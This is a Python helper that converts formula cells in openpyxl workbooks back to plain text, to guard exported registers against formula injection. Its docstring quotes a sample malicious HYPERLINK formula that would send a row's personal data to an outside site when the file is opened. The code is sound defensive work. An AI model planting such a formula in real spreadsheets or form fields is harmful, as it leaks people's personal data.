"""Excel files handed out: what was typed is written as text, never as a formula.

openpyxl stores any string that begins with "=" as a formula. A register or a report carries
what citizens and officers typed (an applicant's name, an address, a reason): a name such as
`=HYPERLINK("http://…?"&C7,"Mở")` would run when an officer opens the export, and could send
the row's personal data to another site (CSV/formula injection, OWASP). None of the exports
writes a formula on purpose, so every formula cell is turned back into the text it was.
"""

import io

from openpyxl import Workbook


def workbook_bytes(book: Workbook) -> bytes:
    """The .xlsx file of `book`, with every cell that openpyxl took for a formula kept as text
    (Excel and LibreOffice then show the characters as typed, the leading "=" included)."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
